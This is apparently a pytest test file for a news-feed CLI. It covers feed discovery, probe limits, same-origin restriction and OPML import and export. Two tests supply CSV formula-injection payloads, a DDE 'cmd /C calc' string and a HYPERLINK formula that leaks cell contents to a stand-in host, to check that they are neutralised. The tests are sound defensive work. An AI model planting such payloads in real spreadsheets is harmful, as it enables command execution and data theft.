"""`presswatch feeds add|import|export` against real loopback outlets and real files."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from loopback import LoopbackServer, Reply
from sitemaps import news_url, sitemap_index, urlset

from flows.adapters.discovery import MAX_PROBED, discover
from flows.config import FetchSettings
from flows.interface.cli import main
from transforms.opml import parse_opml

PROJECT_DIR = Path(__file__).resolve().parents[2]
RSS = "application/rss+xml"
NOW = datetime.now(UTC)


def rss(title: str, items: int, newest: datetime) -> bytes:
    """An RSS feed of `items` entries, the newest at `newest`, one hour apart."""
    entries = "".join(
        f"<item><title>Story {n}</title><link>/story/{n}</link>"
        f"<pubDate>{(newest - timedelta(hours=n)):%a, %d %b %Y %H:%M:%S +0000}</pubDate></item>"
        for n in range(items)
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>{title}</title>{entries}</channel></rss>'.encode()


def home_page(*feeds: str) -> bytes:
    links = "".join(f'<link rel="alternate" type="application/rss+xml" href="{feed}">' for feed in feeds)
    return (
        f'<html><head><title>Home - The Harrowby Post</title><meta property="og:site_name" content="The Harrowby Post">'
        f"{links}</head><body><h1>Latest</h1></body></html>"
    ).encode()


@pytest.fixture(autouse=True)
def no_delay(monkeypatch: pytest.MonkeyPatch) -> None:
    """Our own loopback outlets need no politeness delay."""
    monkeypatch.setenv("PRESSWATCH_PER_HOST_DELAY_S", "0")
    monkeypatch.setenv("PRESSWATCH_FEED_PER_HOST_DELAY_S", "0")


@pytest.fixture
def outlet() -> Iterator[LoopbackServer]:
    """An outlet whose home page advertises a busy politics feed and a quieter comment-free one."""
    routes = {
        "/": Reply(body=home_page("/politics/rss.xml", "/sport.xml")),
        "/politics/rss.xml": Reply(
            body=rss("Politics | The Harrowby Post", 25, NOW - timedelta(minutes=20)), content_type=RSS
        ),
        "/sport.xml": Reply(body=rss("Sport | The Harrowby Post", 3, NOW - timedelta(days=2)), content_type=RSS),
    }
    with LoopbackServer(routes) as server:  # type: ignore[arg-type]
        yield server


def feeds_file(tmp_path: Path, *rows: str) -> Path:
    path = tmp_path / "feeds.csv"
    path.write_text("source_id,name,feed_url,respect_robots\n" + "".join(row + "\n" for row in rows), encoding="utf-8")
    return path


class TestFeedsAdd:
    def test_home_page_feeds_are_listed_and_the_busiest_is_added(
        self, outlet: LoopbackServer, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """Both advertised feeds are shown with item counts and newest date; the newest comes first and is added."""
        path = feeds_file(tmp_path, "bbc,BBC,https://feeds.example.org/bbc.xml,true")

        code = main(["feeds", "add", outlet.url("/"), "--feeds", str(path)])

        shown = capsys.readouterr().out
        assert code == 0
        assert (
            f"1. feed          {outlet.url('/politics/rss.xml')}  25 item(s), "
            f"newest {NOW - timedelta(minutes=20):%Y-%m-%d %H:%M} UTC" in shown
        )
        assert f"2. feed          {outlet.url('/sport.xml')}  3 item(s)" in shown
        assert "(advertised by the page)" in shown
        added = path.read_text(encoding="utf-8").splitlines()[-1]
        assert (
            added == f"politics-the-harrowby-post,Politics | The Harrowby Post,{outlet.url('/politics/rss.xml')},true"
        )

    def test_name_and_pick_choose_what_is_added(self, outlet: LoopbackServer, tmp_path: Path) -> None:
        """--pick 2 adds the second source, under the --name given, with an id made from it."""
        path = feeds_file(tmp_path, "harrowby-sport,Taken,https://feeds.example.org/x.xml,true")

        code = main(["feeds", "add", outlet.url("/"), "--pick", "2", "--name", "Harrowby Sport", "--feeds", str(path)])

        assert code == 0
        assert path.read_text(encoding="utf-8").splitlines()[-1] == (
            f"harrowby-sport-2,Harrowby Sport,{outlet.url('/sport.xml')},true"
        )

    def test_a_feed_already_listed_is_not_added_twice(self, outlet: LoopbackServer, tmp_path: Path) -> None:
        """Adding a feed the file already has changes nothing and says under which id it is."""
        path = feeds_file(tmp_path, f"post,Post,{outlet.url('/politics/rss.xml')},true")
        before = path.read_bytes()

        code = main(["feeds", "add", outlet.url("/politics/rss.xml"), "--feeds", str(path)])

        assert (code, path.read_bytes()) == (0, before)

    def test_a_page_advertising_hundreds_of_feeds_gets_a_bounded_probe(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """Of 300 advertised feeds only the first MAX_PROBED are requested and listed; one line says how many were
        left, and the busiest probed feed is added."""
        with LoopbackServer() as server:
            server.route("/", Reply(body=home_page(*(f"/feeds/{n}.xml" for n in range(300)))))
            server.fallback = lambda request: Reply(body=rss("Desk", 2, NOW - timedelta(hours=1)), content_type=RSS)
            path = tmp_path / "feeds.csv"

            code = main(["feeds", "add", server.url("/"), "--feeds", str(path)])

            probed = [request.path for request in server.requests if request.path.startswith("/feeds/")]
        shown = capsys.readouterr().out
        assert code == 0
        assert sorted(probed) == sorted(f"/feeds/{n}.xml" for n in range(MAX_PROBED))
        assert f"{300 - MAX_PROBED} more address(es) not probed (at most {MAX_PROBED}" in shown
        assert f"Found {MAX_PROBED} source(s)" in shown
        assert len(shown.splitlines()) <= MAX_PROBED + 4

    def test_probing_stops_at_its_deadline(self) -> None:
        """Feeds that have not answered by the deadline are left out and counted, and discovery returns."""
        with LoopbackServer() as server:
            server.route("/", Reply(body=home_page("/quick.xml", "/slow-1.xml", "/slow-2.xml")))
            server.route("/quick.xml", Reply(body=rss("Quick", 1, NOW), content_type=RSS))
            server.route("/robots.txt", Reply(status=404))
            server.fallback = lambda request: Reply(body=rss("Slow", 1, NOW), content_type=RSS, delay_s=4.0)
            settings = FetchSettings(per_host_delay_s=0.0, feed_per_host_delay_s=0.0, per_host_concurrency=4)

            found = discover(server.url("/"), settings=settings, now=NOW, deadline_s=1.0)

        assert [candidate.url for candidate in found.candidates] == [server.url("/quick.xml")]
        assert found.not_probed == "2 address(es) not probed within 1 s"

    def test_news_sitemap_is_found_from_robots_txt(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """A page advertising no feed leads to the news sitemap index its robots.txt names, with its items."""
        with LoopbackServer() as server:
            base = server.url("").rstrip("/")
            server.route(
                "/politics", Reply(body=b"<html><head><title>Politics - Courier</title></head><body></body></html>")
            )
            server.route(
                "/robots.txt",
                Reply(body=f"User-agent: *\nSitemap: {base}/sitemap_index.xml\n".encode(), content_type="text/plain"),
            )
            server.route(
                "/sitemap_index.xml",
                Reply(body=sitemap_index([(f"{base}/news.xml", NOW)]), content_type="application/xml"),
            )
            server.route(
                "/news.xml",
                Reply(
                    body=urlset(news_url(f"{base}/n/{n}", f"N{n}", NOW - timedelta(hours=n)) for n in range(4)),
                    content_type="application/xml",
                ),
            )
            path = tmp_path / "new-feeds.csv"

            code = main(["feeds", "add", server.url("/politics"), "--feeds", str(path)])

        shown = capsys.readouterr().out
        assert code == 0
        assert f"1. sitemap-index {base}/sitemap_index.xml  4 recent news item(s)" in shown
        assert "(robots.txt Sitemap line)" in shown
        assert path.read_text(encoding="utf-8") == (
            f"source_id,name,feed_url,respect_robots\npolitics,Politics,{base}/sitemap_index.xml,true\n"
        )

    def test_page_without_any_source_adds_nothing(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """When neither the page, robots.txt nor the usual addresses give a source, the command says so and fails."""
        with LoopbackServer(
            {"/": Reply(body=b"<html><head><title>Blank</title></head><body></body></html>")}
        ) as server:
            code = main(["feeds", "add", server.url("/"), "--feeds", str(tmp_path / "feeds.csv")])
            asked = {request.path for request in server.requests}

        assert code == 1
        assert "no feed or news sitemap found" in capsys.readouterr().err
        assert {"/robots.txt", "/feed", "/rss.xml", "/news-sitemap.xml"} <= asked
        assert not (tmp_path / "feeds.csv").exists()


    def test_a_remote_title_with_a_newline_or_a_formula_is_written_as_one_line_of_text(self, tmp_path: Path) -> None:
        """A feed titled over two lines gives a one-line name; a page whose site name is a formula gives text."""
        routes = {
            "/a/": Reply(body=home_page("/a/rss.xml")),
            "/a/rss.xml": Reply(body=rss("Politics\n| The Harrowby Post", 3, NOW), content_type=RSS),
            "/b/": Reply(body=home_page("/b/rss.xml").replace(b"The Harrowby Post", b"@SUM(1+1)*cmd|' /C calc'!A0")),
            "/b/rss.xml": Reply(body=rss("", 3, NOW), content_type=RSS),
        }
        path = tmp_path / "feeds.csv"
        with LoopbackServer(routes) as server:  # type: ignore[arg-type]
            assert main(["feeds", "add", server.url("/a/"), "--pick", "1", "--feeds", str(path)]) == 0
            assert main(["feeds", "add", server.url("/b/"), "--pick", "1", "--feeds", str(path)]) == 0

        lines = path.read_text(encoding="utf-8").splitlines()
        assert len(lines) == 3
        assert lines[1].startswith("politics-the-harrowby-post,Politics | The Harrowby Post,")
        assert lines[2].startswith("sum-1-1-cmd-c-calc-a0,'@SUM(1+1)*cmd|' /C calc'!A0,")

def feeds_add_without_terminal(*arguments: str) -> subprocess.CompletedProcess[str]:
    """`presswatch feeds add ...` as a script or cron job runs it: no terminal to ask on."""
    return subprocess.run(
        [sys.executable, "-m", "flows.interface.cli", "feeds", "add", *arguments],
        cwd=PROJECT_DIR, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=300,
        env={**os.environ, "PRESSWATCH_PER_HOST_DELAY_S": "0", "PRESSWATCH_FEED_PER_HOST_DELAY_S": "0"},
    )


class TestFeedsAddWithoutTerminal:
    """A page whose feed links name another port of its host (as pages that hard-code their port do): that other
    origin is not the address typed, so it is refused before any connection."""

    def test_nothing_reachable_adds_nothing_and_says_so_in_one_line(self, tmp_path: Path) -> None:
        """Both candidates unreachable: exit 1, one line, the feeds file untouched, the other port never asked."""
        path = feeds_file(tmp_path, "bbc,BBC,https://feeds.example.org/bbc.xml,true")
        before = path.read_text(encoding="utf-8")
        with LoopbackServer() as elsewhere:
            page = {"/": Reply(body=home_page(elsewhere.url("/politics/rss.xml"), elsewhere.url("/sport.xml")))}
            with LoopbackServer(page) as outlet:  # type: ignore[arg-type]
                result = feeds_add_without_terminal(outlet.url("/"), "--feeds", str(path))
                typed = outlet.url("/").rstrip("/")

        assert result.returncode == 1, result.stdout + result.stderr
        assert result.stderr.count("\n") == 1
        assert result.stderr.startswith("presswatch feeds add: none of the 2 source(s) found could be read")
        assert "nothing added" in result.stderr and "--pick" in result.stderr
        assert "feeds file" not in result.stdout
        assert f"only {typed} (the address given) may be reached on this host" in result.stdout
        assert path.read_text(encoding="utf-8") == before
        assert elsewhere.requests == []

    def test_pick_adds_an_unreachable_source_and_says_so(self, tmp_path: Path) -> None:
        """--pick is the person's explicit choice: the source is added, with a line saying it could not be read."""
        path = feeds_file(tmp_path, "bbc,BBC,https://feeds.example.org/bbc.xml,true")
        routes = {"/": Reply(body=home_page("/rss.xml")), "/rss.xml": Reply(status=404)}
        with LoopbackServer(routes) as outlet:  # type: ignore[arg-type]
            result = feeds_add_without_terminal(outlet.url("/"), "--pick", "1", "--feeds", str(path))

        assert result.returncode == 0, result.stdout + result.stderr
        assert outlet.url("/rss.xml") in path.read_text(encoding="utf-8")
        assert "could not be read now" in result.stdout


OPML = b"""<?xml version="1.0" encoding="UTF-8"?>
<opml version="2.0"><head><title>Exported from another reader</title></head><body>
<outline text="UK politics">
  <outline type="rss" text="Harrowby Post: Politics" xmlUrl="https://p.example/politics.rss"/>
  <outline type="rss" text="Civic Courier" xmlUrl="https://c.example/rss.xml"/>
</outline>
<outline type="rss" text="Meridian Wire" xmlUrl="https://m.example/atom.xml"/>
</body></opml>"""


class TestOpmlCommands:
    def test_import_then_export_gives_the_same_feeds(self, tmp_path: Path) -> None:
        """An OPML list imported into an empty feeds file and exported again lists the same feeds, titles and all."""
        source = tmp_path / "reader.opml"
        source.write_bytes(OPML)
        path = tmp_path / "feeds.csv"
        exported = tmp_path / "presswatch.opml"

        assert main(["feeds", "import", str(source), "--feeds", str(path)]) == 0
        assert main(["feeds", "export", "--feeds", str(path), "--out", str(exported)]) == 0

        listed = [(feed.title, feed.feed_url) for feed in parse_opml(exported.read_bytes()).feeds]
        assert listed == [(feed.title, feed.feed_url) for feed in parse_opml(OPML).feeds]
        assert [line.split(",")[0] for line in path.read_text(encoding="utf-8").splitlines()[1:]] == [
            "harrowby-post-politics",
            "civic-courier",
            "meridian-wire",
        ]

    def test_import_skips_feeds_already_listed(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """Feeds the file already has are left alone; the others are appended after them."""
        source = tmp_path / "reader.opml"
        source.write_bytes(OPML)
        path = feeds_file(tmp_path, "courier,Courier,https://c.example/rss.xml,true")

        main(["feeds", "import", str(source), "--feeds", str(path)])

        assert "Imported 2 feed(s)" in capsys.readouterr().out
        assert [line.split(",")[0] for line in path.read_text(encoding="utf-8").splitlines()[1:]] == [
            "courier",
            "harrowby-post-politics",
            "meridian-wire",
        ]

    def test_import_that_would_break_the_feeds_file_writes_nothing(
        self, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """A list naming an ftp feed is refused with the row it would have been; the file is unchanged."""
        source = tmp_path / "reader.opml"
        source.write_bytes(OPML.replace(b"https://m.example/atom.xml", b"ftp://m.example/atom.xml"))
        path = feeds_file(tmp_path, "courier,Courier,https://c.example/rss.xml,true")
        before = path.read_bytes()

        code = main(["feeds", "import", str(source), "--feeds", str(path)])

        assert code == 1
        assert "feeds.csv row 3: feed_url must be http(s), got 'ftp://m.example/atom.xml'" in capsys.readouterr().err
        assert path.read_bytes() == before

    def test_titles_that_are_formulas_or_span_lines_are_written_as_text(self, tmp_path: Path) -> None:
        """Each new cell of feeds.csv is one line a spreadsheet shows as text; numbers and URLs stay as given."""
        source = tmp_path / "reader.opml"
        source.write_bytes(
            b'<opml version="2.0"><body>'
            b'<outline type="rss" text="=HYPERLINK(&quot;http://x/?&quot;&amp;A1,&quot;Click&quot;)" xmlUrl="https://a.example/rss"/>'
            b'<outline type="rss" text="@SUM(A1:A9)" xmlUrl="https://b.example/rss"/>'
            b'<outline type="rss" text="Home&#10;&#13;Page&#9;News" xmlUrl="https://c.example/rss"/>'
            b'<outline type="rss" text="-42" xmlUrl="https://d.example/rss?x=1&amp;y=@2"/>'
            b"</body></opml>"
        )
        path = feeds_file(tmp_path, "courier,Courier,https://c.example/courier.xml,true")

        assert main(["feeds", "import", str(source), "--feeds", str(path)]) == 0

        assert path.read_text(encoding="utf-8").splitlines()[2:] == [
            'hyperlink-http-x-a1-click,"\'=HYPERLINK(""http://x/?""&A1,""Click"")",https://a.example/rss,true',
            "sum-a1-a9,'@SUM(A1:A9),https://b.example/rss,true",
            "home-page-news,Home Page News,https://c.example/rss,true",
            "42,-42,https://d.example/rss?x=1&y=@2,true",
        ]

    def test_outlines_of_one_title_get_numbered_ids(self, tmp_path: Path) -> None:
        """Two thousand outlines titled alike become two thousand rows, numbered in order after the first."""
        outlines = "".join(
            f'<outline type="rss" text="The Herald" xmlUrl="https://h.example/{number}.rss"/>' for number in range(2000)
        )
        source = tmp_path / "reader.opml"
        source.write_text(f'<opml version="2.0"><body>{outlines}</body></opml>', encoding="utf-8")
        path = feeds_file(tmp_path, "the-herald-3,Herald,https://h.example/old.rss,true")

        assert main(["feeds", "import", str(source), "--feeds", str(path)]) == 0

        ids = [line.split(",")[0] for line in path.read_text(encoding="utf-8").splitlines()[2:]]
        assert ids == ["the-herald", "the-herald-2", *(f"the-herald-{number}" for number in range(4, 2002))]

    def test_export_to_standard_output(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        """Without --out the OPML goes to standard output, one outline per feed."""
        path = feeds_file(tmp_path, "courier,The Civic Courier,https://c.example/rss.xml,true")

        assert main(["feeds", "export", "--feeds", str(path)]) == 0

        out = capsys.readouterr().out
        assert (
            '<outline type="rss" text="The Civic Courier" title="The Civic Courier" '
            'xmlUrl="https://c.example/rss.xml" presswatchSourceId="courier" />' in out
        )
